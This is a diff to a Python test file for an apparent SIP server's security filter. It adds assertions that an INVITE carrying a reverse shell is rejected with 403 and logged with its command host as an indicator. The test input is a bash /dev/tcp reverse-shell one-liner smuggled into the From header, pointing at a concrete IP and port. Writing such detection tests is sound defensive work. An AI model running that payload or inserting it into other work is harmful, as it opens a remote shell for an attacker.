@@ -35,7 +35,10 @@ def test_eaglesip_update_in_a_register_is_rejected_and_named(server: Server) -> 
 def test_reverse_shell_in_an_invite_is_rejected(server: Server) -> None:
     sent = invite(from_='"bash -i >& /dev/tcp/216.126.227.195:3456 0>&1" <sip:a@example.com>;tag=1', call_id="shell")
     assert status(exchange(server, sent, source="127.0.1.2")) == 403
-    assert "shell-dev-tcp" in server.record_of("shell")["rule"]["id"]
+    record = server.record_of("shell")
+    assert "shell-dev-tcp" in record["rule"]["id"]
+    # The command host to look for in other logs; never the message's own hosts.
+    assert record["indicators"] == [{"type": "host-port", "value": "216.126.227.195:3456"}]
 
 
 def test_invite_without_a_body_is_rejected(server: Server) -> None:
